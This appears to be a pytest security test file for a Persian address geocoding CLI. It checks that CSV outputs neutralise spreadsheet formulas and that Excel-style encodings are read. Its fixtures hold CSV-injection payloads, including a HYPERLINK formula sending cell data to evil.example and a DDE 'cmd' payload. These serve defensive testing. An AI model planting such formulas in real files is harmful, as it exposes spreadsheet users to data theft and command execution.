"""Hostile files on disk: spreadsheet formulas in every CSV Jinef writes (case 6), input encodings (case 11)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from jinef.model.address import EXPORT_COLUMNS
from jinef.model.digits import to_latin_digits
from jinef.read.registry.registry import Registry
from tests.security.conftest import cli

FORMULAS = {
    "building": '=HYPERLINK("http://evil.example/?d="&A2,"جزئیات")',
    "neighbourhood": '@SUM(1+1)*cmd|" /C calc"!A0',
    "unit": "+1+1",
    "entrance": "-2+3",
    "plate": "\t=1+2",  # (the importer strips the tab: stored as =1+2)
}
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)\Z")


def _dangerous(cell: str) -> bool:
    """A cell a spreadsheet would run as a formula."""
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not _NUMBER.match(cell)


def _cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


def _assert_safe(path: Path) -> None:
    bad = [(i, c) for i, row in enumerate(_cells(path)) for c in row if _dangerous(c)]
    assert not bad, f"{path.name}: cells a spreadsheet would run: {bad[:5]}"


@pytest.fixture(scope="module")
def exported(small_registry: Path, tmp_path_factory: pytest.TempPathFactory) -> list[dict[str, str]]:
    """The first rows of the small registry's export."""
    out = tmp_path_factory.mktemp("export") / "all.csv"
    done = cli("export", "--format", "csv", "-o", str(out), "--db", str(small_registry))
    assert done.returncode == 0, done.stderr
    with out.open(encoding="utf-8", newline="") as fh:
        return [row for row, _ in zip(csv.DictReader(fh), range(20), strict=False)]


def _write(path: Path, rows: list[dict[str, str]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as fh:
        w = csv.DictWriter(fh, EXPORT_COLUMNS, lineterminator="\n")
        w.writeheader()
        w.writerows(rows)
    return path


def test_case06_export_neutralises_formulas_and_import_restores_them(exported: list[dict[str, str]],
                                                                     tmp_path: Path) -> None:
    rows = [dict(r) for r in exported]
    for row, (field, value) in zip(rows, FORMULAS.items(), strict=False):
        row[field] = value
    rows[6]["floor"] = "-1"  # a basement: a number, left as it is
    loaded = tmp_path / "loaded.sqlite"
    done = cli("import", str(_write(tmp_path / "in.csv", rows)), "--db", str(loaded))
    assert done.returncode == 0, done.stderr
    out = tmp_path / "out.csv"
    assert cli("export", "--format", "csv", "-o", str(out), "--db", str(loaded)).returncode == 0
    _assert_safe(out)
    by_postcode = {r["postcode"]: r for r in csv.DictReader(io.StringIO(out.read_text(encoding="utf-8")))}
    assert by_postcode[rows[0]["postcode"]]["building"] == "'" + FORMULAS["building"]  # shown as text
    assert by_postcode[rows[6]["postcode"]]["floor"] == "-1"
    # The export imports back to the very same values (the reader drops the quote the writer added).
    again = tmp_path / "again.sqlite"
    assert cli("import", str(out), "--db", str(again)).returncode == 0
    with Registry.open(again) as reg:
        for row, (field, value) in zip(rows, FORMULAS.items(), strict=False):
            a = reg.lookup(row["postcode"])
            assert a is not None and getattr(a, field) == value.strip(), (field, a)
    out2 = tmp_path / "out2.csv"
    assert cli("export", "--format", "csv", "-o", str(out2), "--db", str(again)).returncode == 0
    assert out2.read_text(encoding="utf-8") == out.read_text(encoding="utf-8")


def test_case06_the_rejects_file_is_neutralised(exported: list[dict[str, str]], tmp_path: Path) -> None:
    rows = [dict(r) for r in exported[:5]]
    rows[1]["postcode"] = "=1+1"  # refused (not a postcode) and written back to the rejects file
    rows[2]["locality_type"] = "@SUM(A1)"
    rejects = tmp_path / "rejects.csv"
    done = cli("import", str(_write(tmp_path / "in.csv", rows)), "--db", str(tmp_path / "r.sqlite"),
               "--skip-bad", str(rejects))
    assert done.returncode == 0, done.stderr
    assert len(_cells(rejects)) == 3
    _assert_safe(rejects)


def _addresses(registry: Path, n: int) -> list[str]:
    with Registry.open(registry) as reg:
        return [to_latin_digits(a.standard_address) for a, _ in zip(reg.addresses(), range(n), strict=False)]


def test_case06_geocode_and_reverse_output_is_neutralised(small_registry: Path, tmp_path: Path) -> None:
    src = tmp_path / "in.csv"
    with src.open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["id", "address", "note"])
        for i, a in enumerate(_addresses(small_registry, 5)):
            w.writerow([f"-{i}+cmd", a, '=HYPERLINK("http://evil.example","x")'])
    out = tmp_path / "out.csv"
    done = cli("geocode", str(src), "-o", str(out), "--db", str(small_registry), "--workers", "1")
    assert done.returncode == 0, done.stderr
    assert len(_cells(out)) == 6
    _assert_safe(out)
    points = tmp_path / "points.csv"
    points.write_text('lat,lon,label\n35.7,51.4,"=1+1"\n36.2,59.6,@x\n', encoding="utf-8")
    out = tmp_path / "reverse.csv"
    done = cli("reverse", str(points), "-o", str(out), "--db", str(small_registry))
    assert done.returncode in (0, 1), done.stderr  # 1: a point found no building (the CLI's convention)
    _assert_safe(out)


@pytest.fixture(scope="module")
def addresses(small_registry: Path) -> list[str]:
    """Standard addresses as Windows saves them in 1256: Latin digits, and Arabic yeh for Persian yeh (which the
    code page lacks: Windows writes its "best fit", as the geocoder's normalisation expects)."""
    found = []
    for a in _addresses(small_registry, 400):
        a = a.replace("ی", "ي")
        try:
            a.encode("cp1256")
        except UnicodeEncodeError:
            continue
        found.append(a)
    assert len(found) >= 30
    return found[:30]


def _geocode(src: Path, registry: Path, *extra: str) -> tuple[int, str, list[list[str]]]:
    out = src.with_suffix(".out.csv")
    done = cli("geocode", str(src), "-o", str(out), "--db", str(registry), "--workers", "1", *extra)
    return done.returncode, done.stderr, _cells(out) if out.exists() else []


@pytest.mark.parametrize("encoding", ["cp1256", "utf-16", "utf-16-le", "utf-8-sig"])
def test_case11_geocode_reads_the_encodings_excel_writes(addresses: list[str], small_registry: Path,
                                                         tmp_path: Path, encoding: str) -> None:
    src = tmp_path / f"in-{encoding}.csv"
    src.write_bytes(("address\r\n" + "".join(f'"{a}"\r\n' for a in addresses)).encode(encoding))
    code, err, rows = _geocode(src, small_registry)
    assert code == 0, err
    levels = [r[2] for r in rows[1:]]  # match_level, after the address column
    assert len(levels) == len(addresses) and levels.count("none") <= len(levels) // 10, levels
    assert rows[1][0] == addresses[0]  # written back as the text it was


def test_case11_no_readable_row_is_an_error(addresses: list[str], small_registry: Path, tmp_path: Path) -> None:
    src = tmp_path / "in.csv"
    src.write_bytes(("address\n" + "\n".join(addresses) + "\n").encode("cp1256"))
    code, err, rows = _geocode(src, small_registry, "--encoding", "latin-1")  # the wrong one, on purpose
    assert code != 0 and "Persian" in err and "--encoding" in err, err
    assert rows == []  # no output pretending to be results


def test_case11_reverse_reads_utf16(small_registry: Path, tmp_path: Path) -> None:
    src = tmp_path / "points.csv"
    src.write_bytes("lat,lon,نام\r\n35.7,51.4,الف\r\n36.2,59.6,ب\r\n".encode("utf-16"))
    out = tmp_path / "out.csv"
    done = cli("reverse", str(src), "-o", str(out), "--db", str(small_registry), "--json")
    assert done.returncode in (0, 1), done.stderr  # 1: a point found no building (the CLI's convention)
    assert _cells(out)[0][:3] == ["lat", "lon", "نام"] and len(_cells(out)) == 3
